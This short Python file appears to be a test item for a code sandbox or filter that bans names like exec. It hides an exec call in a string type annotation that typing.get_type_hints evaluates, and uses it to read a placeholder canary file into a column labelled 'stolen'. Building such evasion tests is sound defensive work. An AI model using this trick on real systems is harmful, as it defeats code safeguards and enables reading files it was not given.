# class: string_exec
# technique: typing.get_type_hints evaluates a string annotation; the annotation calls exec on source text held in a variable (exec is a banned name only outside string literals)
# goal: read
import typing

import pandas as pd

scope = {"path": "{{CANARY_FILE}}"}
source = "data = open(path).read()"


def column(x: "[exec(source, scope), float][-1]"):
    return x


typing.get_type_hints(column)
df = pd.DataFrame({"stolen": [scope["data"]]})
